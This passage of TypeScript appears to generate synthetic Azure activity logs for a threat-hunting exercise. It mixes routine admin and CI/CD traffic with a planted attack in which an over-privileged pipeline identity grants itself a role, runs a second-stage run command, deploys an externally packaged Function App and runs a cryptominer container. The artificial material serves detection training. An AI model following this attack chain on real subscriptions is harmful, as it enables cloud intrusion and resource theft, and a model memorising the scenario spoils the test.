        AzureWebJobsStorage: connString("stcontosofuncs"),
        WEBSITE_RUN_FROM_PACKAGE: "1",
        APPLICATIONINSIGHTS_CONNECTION_STRING: aiBilling,
      }),
    }),
    mkApp({
      sub: prod,
      rg: "rg-app",
      name: "func-contoso-notify",
      kind: "functionapp",
      reserved: false,
      plan: planId(prod, "rg-app", "asp-contoso-func-win"),
      linuxFxVersion: "",
      appCommandLine: "",
      ciConfig: "appsettings",
      ciExtension: "MSDeploy",
      settings: () => ({
        FUNCTIONS_EXTENSION_VERSION: "~4",
        FUNCTIONS_WORKER_RUNTIME: "dotnet-isolated",
        AzureWebJobsStorage: connString("stcontosofuncs"),
        WEBSITE_CONTENTAZUREFILECONNECTIONSTRING: connString("stcontosofuncs"),
        WEBSITE_CONTENTSHARE: "func-contoso-notify-7c1e",
        WEBSITE_RUN_FROM_PACKAGE: "1",
        APPLICATIONINSIGHTS_CONNECTION_STRING: aiNotify,
      }),
    }),
    mkApp({
      sub: prod,
      rg: "rg-web",
      name: "app-contoso-web",
      kind: "app,linux,container",
      reserved: true,
      plan: planId(prod, "rg-web", "asp-contoso-web"),
      linuxFxVersion: "DOCKER|contosoprodacr.azurecr.io/contoso/web:2.0.1",
      appCommandLine: "",
      ciConfig: "web",
      ciExtension: null,
      settings: () => ({
        WEBSITES_ENABLE_APP_SERVICE_STORAGE: "false",
        WEBSITES_PORT: "8080",
        DOCKER_REGISTRY_SERVER_URL: "https://contosoprodacr.azurecr.io",
      }),
    }),
    mkApp({
      sub: prod,
      rg: "rg-web",
      name: "app-contoso-api",
      kind: "app,linux",
      reserved: true,
      plan: planId(prod, "rg-web", "asp-contoso-web"),
      linuxFxVersion: "PYTHON|3.12",
      appCommandLine: "gunicorn --bind=0.0.0.0 --timeout 600 app:app",
      ciConfig: "appsettings",
      ciExtension: "zipdeploy",
      settings: () => ({
        SCM_DO_BUILD_DURING_DEPLOYMENT: "true",
        APPLICATIONINSIGHTS_CONNECTION_STRING: aiApi,
        API_BASE_URL: "https://api.contoso.example.com",
      }),
    }),
  ];
  const APPS_DEV: App[] = [
    mkApp({
      sub: dev,
      rg: "rg-dev-app",
      name: "func-contoso-orders-dev",
      kind: "functionapp,linux",
      reserved: true,
      plan: planId(dev, "rg-dev-app", "asp-contoso-dev"),
      linuxFxVersion: "Python|3.11",
      appCommandLine: "",
      ciConfig: "appsettings",
      ciExtension: null,
      settings: () => ({
        FUNCTIONS_EXTENSION_VERSION: "~4",
        FUNCTIONS_WORKER_RUNTIME: "python",
        AzureWebJobsStorage: connString("stcontosodevfuncs"),
        WEBSITE_RUN_FROM_PACKAGE: ordersDevSas,
        APPLICATIONINSIGHTS_CONNECTION_STRING: aiDev,
        ORDERS_QUEUE_NAME: "orders-inbound-dev",
      }),
    }),
  ];
  const ATTACK_APP = mkApp({
    sub: prod,
    rg: "rg-app",
    name: "func-contoso-sync",
    kind: "functionapp,linux",
    reserved: true,
    plan: planId(prod, "rg-app", "asp-contoso-func"),
    linuxFxVersion: "Python|3.11",
    appCommandLine: "",
    ciConfig: "appsettings",
    ciExtension: null,
    settings: () => ({
      FUNCTIONS_EXTENSION_VERSION: "~4",
      FUNCTIONS_WORKER_RUNTIME: "python",
      AzureWebJobsStorage: connString("stcontosofuncs"),
      WEBSITE_RUN_FROM_PACKAGE: EXTERNAL_PACKAGE_URL,
    }),
  });
  const REGISTRY_ID = rid(prod, "rg-shared", "Microsoft.ContainerRegistry/registries/contosoprodacr");
  const REGISTRY_LOGIN = "contosoprodacr.azurecr.io";

  // ----- role assignments -------------------------------------------------------------------
  // Shape: RoleAssignments_ListForScope.json (azure-rest-api-specs, Microsoft.Authorization 2022-04-01)
  // plus createdOn/updatedOn/createdBy/updatedBy as returned by the real list in
  // recorded/cloud-custodian/AccessControlTest.test_find_assignments_by_role.json.
  const assignments = new Map<Sub, Assignment[]>([
    [prod, []],
    [dev, []],
  ]);
  const grant = (
    s: Sub,
    scope: string,
    role: string,
    principalId: string,
    principalType: string,
    createdMs: number,
    createdBy: string,
  ): Assignment => {
    const name = rng.guid();
    const when = iso7(ticksOfMs(createdMs, rng.int(0, 9999)));
    const a: Assignment = {
      properties: {
        roleDefinitionId: `${subScope(s)}/providers/Microsoft.Authorization/roleDefinitions/${role}`,
        principalId,
        principalType,
        scope,
        condition: null,
        conditionVersion: null,
        createdOn: when,
        updatedOn: when,
        createdBy,
        updatedBy: createdBy,
        delegatedManagedIdentityResourceId: null,
        description: null,
      },
      id: `${scope}/providers/Microsoft.Authorization/roleAssignments/${name}`,
      type: "Microsoft.Authorization/roleAssignments",
      name,
    };
    assignments.get(s)?.push(a);
    return a;
  };
  const oldMs = (y: number, m: number, d: number): number =>
    Date.UTC(y, m - 1, d, rng.int(8, 17), rng.int(0, 59), rng.int(0, 59), rng.int(0, 999));
  grant(prod, subScope(prod), ROLE.Owner, ADMIN_OID, "User", oldMs(2024, 3, 4), ADMIN_OID);
  grant(dev, subScope(dev), ROLE.Owner, ADMIN_OID, "User", oldMs(2024, 3, 4), ADMIN_OID);
  // The misconfiguration the attacker abuses: the pipeline identity is Owner of production.
  grant(prod, subScope(prod), ROLE.Owner, sp.oid, "ServicePrincipal", oldMs(2025, 2, 11), ADMIN_OID);
  grant(dev, subScope(dev), ROLE.Contributor, sp.oid, "ServicePrincipal", oldMs(2025, 2, 11), ADMIN_OID);
  grant(prod, subScope(prod), ROLE.Contributor, alice.oid, "User", oldMs(2024, 9, 16), ADMIN_OID);
  grant(prod, subScope(prod), ROLE.Contributor, bob.oid, "User", oldMs(2024, 5, 2), ADMIN_OID);
  grant(dev, subScope(dev), ROLE.Contributor, bob.oid, "User", oldMs(2024, 5, 2), ADMIN_OID);
  grant(dev, subScope(dev), ROLE.Contributor, carla.oid, "User", oldMs(2025, 6, 23), ADMIN_OID);
  grant(prod, subScope(prod), ROLE.WebsiteContributor, dmitri.oid, "User", oldMs(2025, 1, 8), ADMIN_OID);
  grant(prod, subScope(prod), ROLE.Contributor, priya.oid, "User", oldMs(2024, 11, 12), ADMIN_OID);
  grant(dev, subScope(dev), ROLE.Contributor, priya.oid, "User", oldMs(2024, 11, 12), ADMIN_OID);
  grant(dev, subScope(dev), ROLE.Contributor, ethan.oid, "User", oldMs(2025, 8, 4), ADMIN_OID);
  grant(prod, subScope(prod), ROLE.WebsiteContributor, fatima.oid, "User", oldMs(2025, 4, 14), ADMIN_OID);
  grant(prod, rgScope(prod, "rg-web"), ROLE.Contributor, fatima.oid, "User", oldMs(2025, 4, 14), ADMIN_OID);
  grant(prod, subScope(prod), ROLE.Reader, READERS_GROUP_OID, "Group", oldMs(2024, 3, 4), ADMIN_OID);
  grant(dev, subScope(dev), ROLE.Reader, READERS_GROUP_OID, "Group", oldMs(2024, 3, 4), ADMIN_OID);
  grant(prod, REGISTRY_ID, ROLE.AcrPull, WEB_MI_OID, "ServicePrincipal", oldMs(2025, 7, 30), ADMIN_OID);

  /** evidence block of an export record: the assignment that let the caller do it (most privileged first). */
  const evidenceFor = (s: Sub, who: Principal): Record<string, string> | null => {
    const list = (assignments.get(s) ?? []).filter((a) => a.properties.principalId === who.oid);
    const order: string[] = [ROLE.Owner, ROLE.Contributor, ROLE.WebsiteContributor, ROLE.VirtualMachineContributor];
    list.sort(
      (a, b) =>
        order.indexOf(a.properties.roleDefinitionId.split("/").pop() ?? "") -
        order.indexOf(b.properties.roleDefinitionId.split("/").pop() ?? ""),
    );
    const a = list[0];
    if (!a) return null;
    const roleGuid = a.properties.roleDefinitionId.split("/").pop() ?? "";
    return {
      role: roleName(roleGuid),
      roleAssignmentScope: a.properties.scope,
      roleAssignmentId: a.name.replaceAll("-", ""),
      roleDefinitionId: roleGuid.replaceAll("-", ""),
      principalId: who.oid.replaceAll("-", ""),
      principalType: who.kind,
    };
  };

  // ----- activity records -------------------------------------------------------------------
  const recs: Rec[] = [];
  const tokens = new Map<string, Token>();
  const tokenFor = (who: Principal, app: ClientApp, ip: string, t: bigint): Token => {
    const key = `${who.oid}|${app.appid}|${app.acr}|${ip}`;
    const now = Math.floor(msOf(t) / 1000);
    const cached = tokens.get(key);
    if (cached && now >= cached.iat && now < cached.exp - 120) return cached;
    const iat = now - rng.int(15, 900);
    const tok = {
      iat,
      exp: iat + (who.kind === "User" ? rng.int(3900, 5400) : rng.int(3599, 5000)),
    };
    tokens.set(key, tok);
    return tok;
  };

  type OpOpts = {
    sub: Sub;
    resourceId: string;
    op: string;
    who: Principal;
    ip: string;
    app: ClientApp;
    t: bigint;
    correlationId?: string;
    accepted?: string;
    final: string;
    durationS: number;
    fail?: { subStatus: string; code: string; message: string };
    startedExtra?: Record<string, string>;
    acceptedExtra?: Record<string, string>;
    finalExtra?: Record<string, string>;
    attack?: boolean;
  };
  /** One operation: Started (BeginRequest) [+ Accepted] + Succeeded|Failed (EndRequest), one correlationId/operationId. */
  const emit = (o: OpOpts): { end: bigint; correlationId: string } => {
    const correlationId = o.correlationId ?? rng.guid();
    const operationId = rng.guid();
    const clientRequestId = rng.guid();
    const serviceRequestId = rng.guid();
    const token = tokenFor(o.who, o.app, o.ip, o.t);
    const push = (
      phase: Phase,
      subStatus: string,
      t: bigint,
      srid: string | null,
      extra: Record<string, string>,
    ): void => {
      recs.push({
        sub: o.sub,
        resourceId: o.resourceId,
        op: o.op,
        phase,
        subStatus,
        method: methodOf(o.op),
        t,
        submitLagS: rng.int(4, 27) + rng.next(),
        who: o.who,
        ip: o.ip,
        app: o.app,
        token,
        correlationId,
        operationId,
        eventDataId: rng.guid(),
        clientRequestId,
        serviceRequestId: srid,
        extra,
        attack: o.attack === true,
      });
    };
    push("Started", "", o.t, null, o.startedExtra ?? {});
    if (o.fail) {
      const te = addSeconds(o.t, Math.min(o.durationS, rng.int(1, 6)) + rng.next());
      push("Failed", o.fail.subStatus, te, serviceRequestId, {
        statusMessage: JSON.stringify({
          error: { code: o.fail.code, message: o.fail.message },
        }),
      });
      return { end: te, correlationId };
    }
    if (o.accepted !== undefined)
      push("Accepted", o.accepted, addSeconds(o.t, 0.3 + rng.next() * 1.6), serviceRequestId, o.acceptedExtra ?? {});
    const tf = addSeconds(o.t, o.durationS + rng.next());
    push("Succeeded", o.final, tf, serviceRequestId, o.finalExtra ?? {});
    return { end: tf, correlationId };
  };

  // ----- benign users -----------------------------------------------------------------------
  // last write per site, for the sites' lastModifiedTimeUtc
  const lastModified = new Map<string, bigint>();
  const touch = (siteId: string, t: bigint): void => {
    const prev = lastModified.get(siteId);
    if (prev === undefined || t > prev) lastModified.set(siteId, t);
  };
  const vmFail = [
    {
      subStatus: "Conflict",
      code: "OperationNotAllowed",
      message: "Operation cannot be completed because another operation is in progress on the virtual machine.",
    },
  ];
  const K = {
    vmStart: {
      op: "Microsoft.Compute/virtualMachines/start/action",
      accepted: "Accepted",
      final: "OK",
      dur: [35, 150],
      failures: vmFail,
    },
    vmRestart: {
      op: "Microsoft.Compute/virtualMachines/restart/action",
      accepted: "Accepted",
      final: "OK",
      dur: [30, 120],
      failures: vmFail,
    },
    vmDeallocate: {
      op: "Microsoft.Compute/virtualMachines/deallocate/action",
      accepted: "Accepted",
      final: "OK",
      dur: [60, 240],
      failures: vmFail,
    },
    disk: {
      op: "Microsoft.Compute/disks/write",
      accepted: "Accepted",
      final: "OK",
      dur: [3, 25],
    },
    nsgRule: {
      op: "Microsoft.Network/networkSecurityGroups/securityRules/write",
      final: "OK",
      dur: [4, 20],
      failures: [
        {
          subStatus: "BadRequest",
          code: "SecurityRuleInvalidPortRange",
          message:
            "Security rule has invalid Port range. Value provided: 8443-8080. Value should be an integer OR integer range with '-' delimiter. Valid range 0-65535.",
        },
      ],
    },
    storage: {
      op: "Microsoft.Storage/storageAccounts/write",
      final: "OK",
      dur: [2, 8],
      failures: [
        {
          subStatus: "Conflict",
          code: "StorageAccountOperationInProgress",
          message: "An operation is currently performing on this storage account that requires exclusive access.",
        },
      ],
    },
    tags: { op: "Microsoft.Resources/tags/write", final: "OK", dur: [0.3, 2] },
    webRestart: {
      op: "Microsoft.Web/sites/restart/action",
      final: "OK",
      dur: [3, 15],
    },
    webConfig: {
      op: "Microsoft.Web/sites/config/write",
      final: "OK",
      dur: [1, 5],
    },
    diag: {
      op: "Microsoft.Insights/diagnosticSettings/write",
      final: "OK",
      dur: [0.5, 3],
    },
    vmExt: {
      op: "Microsoft.Compute/virtualMachines/extensions/write",
      accepted: "Created",
      final: "OK",
      dur: [60, 240],
      rollout: true,
    },
  } satisfies Record<string, OpKind>;
  const tagsOf = (ids: string[]): string[] => ids.map((id) => `${id}/providers/Microsoft.Resources/tags/default`);
  const diagOf = (ids: string[]): string[] =>
    ids.map((id) => `${id}/providers/Microsoft.Insights/diagnosticSettings/send-to-law`);
  const vmIds = (vms: Vm[]): string[] => vms.map((v) => v.id);
  const amaOf = (vms: Vm[]): string[] => vms.map((v) => `${v.id}/extensions/AzureMonitorLinuxAgent`);
  const appIds = (apps: App[]): string[] => apps.map((a) => a.id);
  const appSettingsOf = (apps: App[]): string[] => apps.map((a) => `${a.id}/config/appsettings`);
  const WEB_APPS = APPS_PROD.filter((a) => a.rg === "rg-web");

  type Duty = { sub: Sub; kind: OpKind; targets: string[] };
  const duties = new Map<Principal, Duty[]>([
    [
      alice,
      [
        { sub: prod, kind: K.vmStart, targets: vmIds(VMS_PROD) },
        { sub: prod, kind: K.vmRestart, targets: vmIds(VMS_PROD) },
        { sub: prod, kind: K.vmDeallocate, targets: vmIds(VMS_PROD) },
        { sub: prod, kind: K.disk, targets: DISKS_PROD },
        {
          sub: prod,
          kind: K.tags,
          targets: tagsOf([...vmIds(VMS_PROD), ...STORAGE_PROD]),
        },
      ],
    ],
    [
      bob,
      [
        { sub: prod, kind: K.nsgRule, targets: NSG_RULES_PROD },
        { sub: prod, kind: K.storage, targets: STORAGE_PROD },
        { sub: prod, kind: K.diag, targets: diagOf(STORAGE_PROD) },
        { sub: dev, kind: K.nsgRule, targets: NSG_RULES_DEV },
        { sub: dev, kind: K.storage, targets: STORAGE_DEV },
        { sub: dev, kind: K.diag, targets: diagOf(STORAGE_DEV) },
      ],
    ],
    [
      carla,
      [
        { sub: dev, kind: K.vmStart, targets: vmIds(VMS_DEV) },
        { sub: dev, kind: K.vmRestart, targets: vmIds(VMS_DEV) },
        { sub: dev, kind: K.vmDeallocate, targets: vmIds(VMS_DEV) },
        { sub: dev, kind: K.tags, targets: tagsOf(vmIds(VMS_DEV)) },
      ],
    ],
    [
      dmitri,
      [
        { sub: prod, kind: K.webRestart, targets: appIds(APPS_PROD) },
        { sub: prod, kind: K.webConfig, targets: appSettingsOf(APPS_PROD) },
      ],
    ],
    [
      priya,
      [
        { sub: prod, kind: K.vmExt, targets: amaOf(VMS_PROD) },
        { sub: prod, kind: K.diag, targets: diagOf(vmIds(VMS_PROD)) },
        { sub: prod, kind: K.vmRestart, targets: vmIds(VMS_PROD) },
        { sub: dev, kind: K.vmExt, targets: amaOf(VMS_DEV) },
        { sub: dev, kind: K.diag, targets: diagOf(vmIds(VMS_DEV)) },
        { sub: dev, kind: K.vmRestart, targets: vmIds(VMS_DEV) },
      ],
    ],
    [
      ethan,
      [
        { sub: dev, kind: K.storage, targets: STORAGE_DEV },
        { sub: dev, kind: K.disk, targets: DISKS_DEV },
        { sub: dev, kind: K.vmStart, targets: vmIds(VMS_DEV) },
        { sub: dev, kind: K.vmDeallocate, targets: vmIds(VMS_DEV) },
      ],
    ],
    [
      fatima,
      [
        { sub: prod, kind: K.webRestart, targets: appIds(WEB_APPS) },
        { sub: prod, kind: K.webConfig, targets: appSettingsOf(WEB_APPS) },
        { sub: prod, kind: K.tags, targets: tagsOf(appIds(WEB_APPS)) },
      ],
    ],
  ]);

  const amaResponseBody = (extId: string): string => {
    const seg = extId.split("/");
    const vmName = nth(seg, 8);
    const s = nth(seg, 2);
    const rg = nth(seg, 4);
    return JSON.stringify({
      name: "AzureMonitorLinuxAgent",
      id: extId,
      type: "Microsoft.Compute/virtualMachines/extensions",
      location: "eastus",
      properties: {
        autoUpgradeMinorVersion: true,
        provisioningState: "Creating",
        publisher: "Microsoft.Azure.Monitor",
        type: "AzureMonitorLinuxAgent",
        typeHandlerVersion: "1.33",
        enableAutomaticUpgrade: true,
        settings: amaSettings(s, rg, vmName),
      },
    });
  };
  const amaSettings = (subId: string, _rg: string, _vm: string): Record<string, unknown> => ({
    authentication: {
      managedIdentity: {
        "identifier-name": "mi_res_id",
        "identifier-value": `/subscriptions/${subId}/resourceGroups/${subId === prod.subscriptionId ? "rg-monitor" : "rg-dev-app"}/providers/Microsoft.ManagedIdentity/userAssignedIdentities/${AMA_UAMI_NAME}`,
      },
    },
  });

  const userOp = (
    who: Principal,
    d: Duty,
    target: string,
    ip: string,
    app: ClientApp,
    t: bigint,
    allowFail: boolean,
  ): void => {
    const k = d.kind;
    const fail = allowFail && k.failures && rng.chance(0.05) ? rng.pick(k.failures) : undefined;
    const dur = k.dur[0] + rng.next() * (k.dur[1] - k.dur[0]);
    const done = emit({
      sub: d.sub,
      resourceId: target,
      op: k.op,
      who,
      ip,
      app,
      t,
      accepted: k.accepted,
      final: k.final,
      durationS: dur,
      fail,
      acceptedExtra: k === K.vmExt ? { responseBody: amaResponseBody(target) } : undefined,
    });
    if (k === K.webConfig && !fail) touch(target.replace(/\/config\/appsettings$/, ""), done.end);
  };
  const workTime = (day: number, fromH: number, toH: number): bigint =>
    ticksOfMs(dayStartMs(day) + Math.floor((fromH + rng.next() * (toH - fromH)) * 3_600_000), rng.int(0, 9999));

  const baselineWeekdays: number[] = [];
  for (let d = 0; d < BASELINE_DAYS; d++) if (isWeekday(d)) baselineWeekdays.push(d);

  // Baseline: every (duty, IP, client app) combination at least once in the first five days
  // (and, for the monitoring-agent rollout, every VM).
  for (const who of USERS) {
    const tasks: { d: Duty; target: string; ip: string; app: ClientApp }[] = [];
    for (const d of duties.get(who) ?? []) {
      const combos = who.ips.length * who.apps.length;
      const n = Math.max(combos, d.kind.rollout ? d.targets.length : 0);
      for (let i = 0; i < n; i++) {
        tasks.push({
          d,
          target: d.kind.rollout ? nth(d.targets, i % d.targets.length) : rng.pick(d.targets),
          ip: nth(who.ips, i % who.ips.length),
          app: nth(who.apps, Math.floor(i / who.ips.length) % who.apps.length),
        });
      }
    }
    tasks.forEach((task, i) => {
      const day = nth(baselineWeekdays, i % baselineWeekdays.length);
      userOp(who, task.d, task.target, task.ip, task.app, workTime(day, 7.5, 17.5), false);
    });
  }
  // The rest of the window: routine, random, always inside each user's own IPs/apps/operations.
  for (let day = BASELINE_DAYS; day < WINDOW_DAYS; day++) {
    for (const who of USERS) {
      const ds = (duties.get(who) ?? []).filter((d) => !d.kind.rollout);
      let n = 0;
      // the dev-only engineers touch fewer resources a day than the production operators
      const devOnly = ds.every((d) => d.sub === dev);
      if (isWeekday(day)) n = rng.chance(0.1) ? 0 : devOnly ? rng.int(1, 4) : rng.int(2, 6);
      else n = rng.chance(0.12) ? 1 : 0;
      for (let i = 0; i < n; i++) {
        const d = rng.pick(ds);
        const ip = who.ips.length > 1 && rng.chance(0.25) ? nth(who.ips, 1) : nth(who.ips, 0);
        const app = rng.pick(who.apps);
        userOp(
          who,
          d,
          rng.pick(d.targets),
          ip,
          app,
          isWeekday(day) ? workTime(day, 7.5, 18) : workTime(day, 9, 16),
          true,
        );
      }
    }
  }
  // A later re-run of the agent rollout on one VM (extension update; same principal, IP, app, operation).
  {
    const d = nth(duties.get(priya) ?? [], 0);
    userOp(priya, d, nth(d.targets, 1), nth(priya.ips, 0), CLI, workTime(15, 9, 11), false);
  }

  // ----- CI/CD service principal --------------------------------------------------------------
  // ARM deployment semantics: the resources a deployment writes are logged with the deployment's
  // correlationId (each with its own operationId); zip/MSDeploy pushes are separate requests.
  let spRelease = 0;
  const release = (
    s: Sub,
    day: number,
    apps: App[],
    ip: string,
    fromH: number,
    toH: number,
    failFirst: boolean,
  ): void => {
    const byRg = new Map<string, App[]>();
    for (const a of apps) byRg.set(a.rg, [...(byRg.get(a.rg) ?? []), a]);
    let seq = 0;
    let t = workTime(day, fromH, toH);
    const app = nth(sp.apps, 0);
    for (const [rg, rgApps] of byRg) {
      seq++;
      let depName = `release-${ymd(dayStartMs(day))}-${String(seq).padStart(2, "0")}`;
      if (failFirst && seq === 1) {
        // a release blocked by policy, re-run with a fixed template a few minutes later
        emit({
          sub: s,
          resourceId: rid(s, rg, `Microsoft.Resources/deployments/${depName}`),
          op: "Microsoft.Resources/deployments/write",
          who: sp,
          ip,
          app,
          t,
          final: "Created",
          durationS: 3,
          fail: {
            subStatus: "BadRequest",
            code: "InvalidTemplateDeployment",
            message:
              "The template deployment failed because of policy violation. Please see details for more information.",
          },
        });
        t = addSeconds(t, rng.int(300, 900));
        seq++;
        depName = `release-${ymd(dayStartMs(day))}-${String(seq).padStart(2, "0")}`;
      }
      t = release2(s, rg, rgApps, depName, t, ip);
      t = addSeconds(t, rng.int(20, 90));
    }
  };
  const release2 = (s: Sub, rg: string, rgApps: App[], depName: string, t0: bigint, ip: string): bigint => {
    const app = nth(sp.apps, 0);
    const depId = rid(s, rg, `Microsoft.Resources/deployments/${depName}`);
    const correlationId = rng.guid();
    let t = addSeconds(t0, rng.int(4, 12));
    for (const a of rgApps) {
      const w = emit({
        sub: s,
        resourceId: a.id,
        op: "Microsoft.Web/sites/write",
        who: sp,
        ip,
        app,
        t,
        correlationId,
        final: "OK",
        durationS: rng.int(3, 9),
      });
      touch(a.id, w.end);
      const cfgId = `${a.id}/config/${a.ciConfig}`;
      const c = emit({
        sub: s,
        resourceId: cfgId,
        op: "Microsoft.Web/sites/config/write",
        who: sp,
        ip,
        app,
        t: addSeconds(w.end, 0.5 + rng.next()),
        correlationId,
        final: "OK",
        durationS: 1 + rng.next() * 3,
      });
      touch(a.id, c.end);
      t = addSeconds(c.end, 0.3 + rng.next());
    }
    const depEnd = addSeconds(t, rng.int(2, 6));
    emit({
      sub: s,
      resourceId: depId,
      op: "Microsoft.Resources/deployments/write",
      who: sp,
      ip,
      app,
      t: t0,
      correlationId,
      final: "Created",
      durationS: Number((depEnd - t0) / 10000000n),
    });
    let t2 = addSeconds(depEnd, rng.int(8, 40));
    for (const a of rgApps) {
      if (!a.ciExtension) continue;
      const e = emit({
        sub: s,
        resourceId: `${a.id}/extensions/${a.ciExtension}`,
        op: "Microsoft.Web/sites/extensions/write",
        who: sp,
        ip,
        app,
        t: t2,
        final: "OK",
        durationS: rng.int(18, 75),
      });
      touch(a.id, e.end);
      t2 = addSeconds(e.end, rng.int(3, 15));
    }
    spRelease++;
    return t2;
  };
  let prodReleases = 0;
  let devReleases = 0;
  for (let day = 0; day < WINDOW_DAYS; day++) {
    if (!isWeekday(day)) continue;
    // dev first (morning), prod in the afternoon; the first two releases of each cover every app and both runner IPs
    const devIp = devReleases < 2 ? nth(sp.ips, devReleases % 2) : rng.pick(sp.ips);
    release(dev, day, APPS_DEV, devIp, 9, 11.5, false);
    devReleases++;
    const prodApps = prodReleases < 2 ? APPS_PROD : APPS_PROD.filter(() => rng.chance(0.4));
    if (prodApps.length === 0) prodApps.push(rng.pick(APPS_PROD));
    const prodIp = prodReleases < 2 ? nth(sp.ips, prodReleases % 2) : rng.pick(sp.ips);
    release(prod, day, prodApps, prodIp, 13, 16, day === 17);
    prodReleases++;
  }

  // ----- the planted attack (prod, 2026-11-19 02:00–03:30 UTC) --------------------------------
  const at = (hh: number, mm: number, ss: number): bigint =>
    ticksOfMs(ATTACK_DAY_MS + ((hh * 60 + mm) * 60 + ss) * 1000 + rng.int(0, 999), rng.int(0, 9999));
  const atk = {
    sub: prod,
    who: sp,
    ip: ATTACK_IP,
    app: ATTACKER_CLIENT,
    attack: true,
  };
  // 1. grant itself Virtual Machine Contributor on rg-app
  const attackAssignmentName = rng.guid();
  const rgAppScope = rgScope(prod, "rg-app");
  const vmcRoleDefId = `${subScope(prod)}/providers/Microsoft.Authorization/roleDefinitions/${ROLE.VirtualMachineContributor}`;
  const t1 = at(2, 4, 11);
  const r1 = emit({
    ...atk,
    resourceId: `${rgAppScope}/providers/Microsoft.Authorization/roleAssignments/${attackAssignmentName}`,
    op: "Microsoft.Authorization/roleAssignments/write",
    t: t1,
    final: "Created",
    durationS: 1.4,
    startedExtra: {
      requestbody: JSON.stringify({
        Id: attackAssignmentName,
        Properties: {
          PrincipalId: sp.oid,
          PrincipalType: "ServicePrincipal",
          RoleDefinitionId: vmcRoleDefId,
          Scope: rgAppScope,
        },
      }),
    },
  });
  const attackAssignmentCreated = iso7(r1.end);
  {
    const a: Assignment = {
      properties: {
        roleDefinitionId: vmcRoleDefId,
        principalId: sp.oid,
        principalType: "ServicePrincipal",
        scope: rgAppScope,
        condition: null,
        conditionVersion: null,
        createdOn: attackAssignmentCreated,
        updatedOn: attackAssignmentCreated,
        createdBy: sp.oid,
        updatedBy: sp.oid,
        delegatedManagedIdentityResourceId: null,
        description: null,
      },
      id: `${rgAppScope}/providers/Microsoft.Authorization/roleAssignments/${attackAssignmentName}`,
      type: "Microsoft.Authorization/roleAssignments",
      name: attackAssignmentName,
    };
    assignments.get(prod)?.push(a);
    // the Succeeded record carries the created assignment as responseBody (JSON string)
    const fin = nth(recs, recs.length - 1);
    fin.extra = { responseBody: JSON.stringify(a) };
  }
  // 2. managed run command on vm-app-01 whose script pulls and runs a second stage
  const vmApp01 = nth(VMS_PROD, 0);
  const runCommandId = `${vmApp01.id}/runCommands/update-agent`;
  const t2 = at(2, 11, 37);
  emit({
    ...atk,
    resourceId: runCommandId,
    op: "Microsoft.Compute/virtualMachines/runCommands/write",
    t: t2,
    accepted: "Created",
    final: "OK",
    durationS: 48,
  });
  // 3. ARM deployment creating a new Function App that runs an external package
  const t3 = at(2, 38, 5);
  const depCorr = rng.guid();
  const sw = emit({
    ...atk,
    resourceId: ATTACK_APP.id,
    op: "Microsoft.Web/sites/write",
    t: addSeconds(t3, 13.6),
    correlationId: depCorr,
    final: "Created",
    durationS: 11,
  });
  const sc = emit({
    ...atk,
    resourceId: `${ATTACK_APP.id}/config/appsettings`,
    op: "Microsoft.Web/sites/config/write",
    t: addSeconds(sw.end, 1.2),
    correlationId: depCorr,
    final: "OK",
    durationS: 2.7,
  });
  touch(ATTACK_APP.id, sc.end);
  emit({
    ...atk,
    resourceId: rid(prod, "rg-app", "Microsoft.Resources/deployments/func-sync-deploy"),
    op: "Microsoft.Resources/deployments/write",
    t: t3,
    correlationId: depCorr,
    final: "Created",
    durationS: Number((sc.end - t3) / 10000000n) + 4,
  });
  // 4. import a public miner image into the trusted registry
  const t4 = at(3, 2, 44);
  const r4 = emit({
    ...atk,
    resourceId: REGISTRY_ID,
    op: "Microsoft.ContainerRegistry/registries/importImage/action",
    t: t4,
    final: "OK",
    durationS: 34,
  });
  // 5. run it in a container group
  const t5 = at(3, 21, 9);
  const cgId = rid(prod, "rg-app", "Microsoft.ContainerInstance/containerGroups/cg-updater");
  emit({
    ...atk,
    resourceId: cgId,
    op: "Microsoft.ContainerInstance/containerGroups/write",
    t: t5,
    final: "Created",
    durationS: 41,
  });

  // ----- render activity records --------------------------------------------------------------
  const claimsOf = (r: Rec): Record<string, string> => {
    const c: Record<string, string> = {
      aud: r.who.kind === "User" ? "https://management.core.windows.net/" : "https://management.azure.com/",
      iss: `https://sts.windows.net/${TENANT}/`,
      iat: String(r.token.iat),
      nbf: String(r.token.iat),
      exp: String(r.token.exp),
      "http://schemas.microsoft.com/identity/claims/tenantid": TENANT,
    };
    if (r.who.kind === "User") c["http://schemas.microsoft.com/claims/authnmethodsreferences"] = "pwd,mfa";
    c["http://schemas.microsoft.com/identity/claims/objectidentifier"] = r.who.oid;
    if (r.who.kind === "User" && r.who.upn) {
      c["http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn"] = r.who.upn;
      c.name = r.who.displayName;
    }
    c.appid = r.app.appid;
    c.appidacr = r.app.acr;
    return c;
  };
  const propsOf = (r: Rec, exported = false): Record<string, string | null> => {
    const p: Record<string, string | null> = {};
    if (r.phase !== "Started") {
      p.statusCode = r.subStatus;
      p.serviceRequestId = r.serviceRequestId;
    }
    Object.assign(p, r.extra);
    p.eventCategory = "Administrative";
    // export only (mapping table: properties.eventName <- eventName, properties.operationId <- operationId)
    if (exported) {
      p.eventName = r.phase === "Started" ? "BeginRequest" : "EndRequest";
      p.operationId = r.operationId;
    }
    p.entity = r.resourceId;
    p.message = r.op;
    p.hierarchy = hierarchy(r.sub);
    return p;
  };
  // REST shape: GetActivityLogsFiltered.json (Microsoft.Insights 2015-04-01 examples) + category,
  // resourceId, resourceType, tenantId from the EventData definition.
  const toRest = (r: Rec): Record<string, unknown> => {
    const { rg, provider, type } = parseResourceId(r.resourceId);
    return {
      authorization: { action: r.op, scope: r.resourceId },
      caller: r.who.kind === "User" ? r.who.upn : r.who.oid,
      claims: claimsOf(r),
      correlationId: r.correlationId,
      description: "",
      eventDataId: r.eventDataId,
      eventName:
        r.phase === "Started"
          ? { value: "BeginRequest", localizedValue: "Begin request" }
          : { value: "EndRequest", localizedValue: "End request" },
      category: { value: "Administrative", localizedValue: "Administrative" },
      httpRequest: {
        clientRequestId: r.clientRequestId,
        clientIpAddress: r.ip,
        method: r.method,
      },
      id: `${r.resourceId}/events/${r.eventDataId}/ticks/${dotnetTicks(r.t)}`,
      level: r.phase === "Failed" ? "Error" : "Informational",
      resourceGroupName: rg,
      resourceProviderName: { value: provider, localizedValue: provider },
      resourceId: r.resourceId,
      resourceType: { value: type, localizedValue: type },
      operationId: r.operationId,
      operationName: { value: r.op, localizedValue: OP_DISPLAY[r.op] ?? r.op },
      properties: propsOf(r),
      status: { value: r.phase, localizedValue: r.phase },
      subStatus: {
        value: r.subStatus,
